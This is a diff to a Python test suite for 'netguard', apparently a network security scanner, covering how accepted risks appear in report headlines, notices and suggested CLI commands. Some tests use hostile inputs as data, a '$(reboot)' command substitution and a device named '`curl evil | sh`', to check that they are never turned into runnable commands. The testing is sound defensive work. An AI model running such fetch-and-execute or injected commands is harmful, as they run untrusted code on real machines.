@@ -16,6 +16,7 @@ from netguard.report.decided import SOON, decision, how_to_accept
 from netguard.report.formats import html, json, text
 from netguard.report.view import view
 from tests.golden.report.over_time import OVERLAY
+from tests.golden.report.rules import CHANGE
 from tests.golden.report.sample import NOW, sample_scan
 
 SCAN = sample_scan()
@@ -28,7 +29,9 @@ FAILING = [f for f in SCAN.findings if f.status is Status.FAIL]
 def accepting(*findings):
     said = next(iter(HELD.values()))
     return Overlay(
-        decisions=Decisions(day=NOW.date(), accepted=MappingProxyType({f.fingerprint: said for f in findings}))
+        decisions=Decisions(
+            day=NOW.date(), accepted=MappingProxyType({f.fingerprint: said for f in findings}), saved=True
+        )
     )
 
 
@@ -52,22 +55,27 @@ def test_each_says_who_decided_until_when_and_why():
 
 def test_the_grade_says_that_it_leaves_them_out():
     assert SEEN.headline.letter == "D"
-    assert SEEN.headline.sentence.startswith("Grade D, with 3 accepted risks: Telnet is open on Hallway lock bridge")
+    assert SEEN.headline.sentence == (
+        "Grade D: Telnet is open on Hallway lock bridge, and 3 more problems as serious. "
+        "3 accepted risks are not counted."
+    )
+    assert "not counted" not in PLAIN.headline.sentence
     assert PLAIN.headline.sentence.startswith("Grade F: ")
     assert [t.number for t in SEEN.tallies if t.kind == "accepted"] == [3]
     assert not [t for t in SEEN.tallies if t.kind == Severity.CRITICAL]
 
 
 def test_one_accepted_risk_is_one():
-    assert view(SCAN, NOW, overlay=accepting(FAILING[0])).headline.sentence.startswith(
-        "Grade F, with 1 accepted risk: "
-    )
+    said = view(SCAN, NOW, overlay=accepting(FAILING[0])).headline.sentence
+    assert said.startswith("Grade F: ")
+    assert said.endswith(". 1 accepted risk is not counted.")
 
 
 def test_a_scan_without_a_letter_stays_without_one():
     made = replace(SCAN, grade=replace(SCAN.grade, letter=None))
-    assert view(made, NOW, overlay=accepting(FAILING[0])).headline.sentence.startswith(
-        "Incomplete, with 1 accepted risk: "
+    assert view(made, NOW, overlay=accepting(FAILING[0])).headline.sentence == (
+        "Incomplete: only 87% of what should be judged could be looked at, too little for a grade. "
+        "1 accepted risk is not counted."
     )
 
 
@@ -114,7 +122,7 @@ def test_one_that_has_ended_is_the_readers_business_at_the_top():
     assert again == [
         (
             "“storage offers FTP on TCP port 21” was accepted until 1 November 2025 and counts again. To accept it once more: "
-            "netguard accept renew 00000003 --until DATE. Else take it out: netguard accept remove 00000003"
+            "`netguard accept renew 00000003 --until DATE`. To remove it: `netguard accept remove 00000003`"
         )
     ]
     assert "storage offers FTP on TCP port 21" in {p.title for p in SEEN.problems}
@@ -123,8 +131,8 @@ def test_one_that_has_ended_is_the_readers_business_at_the_top():
 def test_one_of_no_use_is_said_with_how_to_take_it_out():
     assert SEEN.accepted.unused == (
         (
-            "What was accepted until 1 June 2026 (telnet-open on Study printer) needs it no more: what it is about stands "
-            "open no more. Take it out: netguard accept remove 00000004"
+            "telnet-open on Study printer is closed now, so this acceptance (until 1 June 2026) is no longer needed. "
+            "To remove it: `netguard accept remove 00000004`"
         ),
     )
 
@@ -134,7 +142,7 @@ def test_many_that_have_ended_are_counted():
     many = Overlay(decisions=Decisions(day=NOW.date(), lapsed=(said,) * (SHOWN + 3)))
     notices = [n for n in view(SCAN, NOW, overlay=many).notices if "accept" in n]
     assert len(notices) == SHOWN + 1
-    assert notices[-1] == "3 more of them: netguard accept list"
+    assert notices[-1] == "3 more of them: `netguard accept list`"
 
 
 def test_one_that_has_ended_and_is_about_nothing_open_is_not_worth_a_line():
@@ -169,7 +177,33 @@ def test_the_command_that_accepts_is_given_for_each_open_finding_of_a_saved_scan
     assert all(re.fullmatch(r"netguard accept [0-9a-f]{12} --reason WHY --until DATE", p.accept) for p in SEEN.problems)
     assert all(p.accept is None for card in SEEN.accepted.cards for p in card.findings)
     assert all(p.accept is None for p in PLAIN.problems)
-    assert how_to_accept("$(reboot)", Decisions(day=date(2025, 1, 1))) is None
+    assert how_to_accept("$(reboot)", Decisions(day=date(2025, 1, 1), saved=True)) is None
+    unsaved = replace(OVERLAY, decisions=replace(OVERLAY.decisions, saved=False))
+    assert all(p.accept is None for p in view(SCAN, NOW, overlay=unsaved).problems)
+
+
+def test_commands_in_a_sentence_are_set_as_such_and_a_devices_text_never_is():
+    page = html.render(SCAN, NOW, overlay=OVERLAY)
+    assert "To remove it: <code>netguard accept remove 00000004</code></p>" in page
+    assert "<code>netguard accept renew 00000003 --until DATE</code>. To remove it: <code>" in page
+    odd = replace(next(d for d in SCAN.devices if d.name == "Study printer"), name="`curl evil | sh`")
+    made = replace(SCAN, devices=tuple(odd if d.key == odd.key else d for d in SCAN.devices))
+    assert "<code>curl" not in html.render(made, NOW, overlay=OVERLAY)
+
+
+def test_wherever_a_finding_is_listed_it_says_that_it_is_accepted():
+    """Also among what stands open longest, and where the firewall's rules close it."""
+    camera = next(f for f in FAILING if f.fingerprint in HELD and f.check == "rtsp-open")
+    change = replace(CHANGE, made=replace(CHANGE.made, closes=(camera.fingerprint,)))
+    page = html.render(SCAN, NOW, change, OVERLAY)
+    link = r'<a href="#problem-[^"]*">Garden camera shows its video[^<]*</a>( <span class="tag">accepted)?'
+    for part in (page, page[page.index("It closes:") :], page[page.index("Open longest") :]):
+        said = [m[1] for m in re.finditer(link, part)]
+        assert said
+        assert all(said)
+    assert "anybody (accepted)" in " ".join(text.render(SCAN, NOW, change, OVERLAY).split("closes ", 1)[1].split())
+    plain = text.render(SCAN, NOW, overlay=OVERLAY)
+    assert re.search(r"Garden camera shows its video stream to anybody \(accepted\),\s+since before", plain)
 
 
 def test_ids_that_are_no_ids_become_no_command():
@@ -186,10 +220,11 @@ def test_the_terminal_names_them_and_leaves_them_out_of_what_was_found():
     found = said[said.index("\nFound\n") : said.index("\nAccepted for a while\n")]
     assert "Garden camera" not in found
     assert "  - Garden camera shows its video stream to anybody: by Ada until 1 March 2026" in said
-    assert said.startswith("Grade D, with 3 accepted risks: ")
+    assert said.startswith("Grade D: ")
+    assert "3 accepted risks are not counted." in " ".join(said.split())
     assert "2 things changed since 14 November 2025" in said
     flat = " ".join(said.split())
-    assert "needs it no more" in flat
+    assert "this acceptance (until 1 June 2026) is no longer needed" in flat
     assert "counts again" in flat
     assert max(map(len, said.splitlines())) <= WIDTH
     many = summary(SCAN, NOW, accepting(*FAILING))
@@ -201,7 +236,7 @@ def test_the_terminal_names_them_and_leaves_them_out_of_what_was_found():
 def test_netguard_alone_counts_without_them():
     said = last_result(SCAN, NOW, OVERLAY.decisions)
     assert f"grade D, 17 devices, {len(FAILING) - 3} findings open, 3 accepted, " in said
-    assert "Accepted until a day that is over, and counting again: 1. See netguard accept list." in said
+    assert "Accepted until a day that is over, and counting again: 1. See `netguard accept list`." in said
     assert "Do next: " in said
     assert f"grade F, 17 devices, {len(FAILING)} findings open, " in last_result(SCAN, NOW)
     assert "Do next" not in last_result(replace(SCAN, actions=SCAN.actions[:1]), NOW, accepting(*FAILING).decisions)
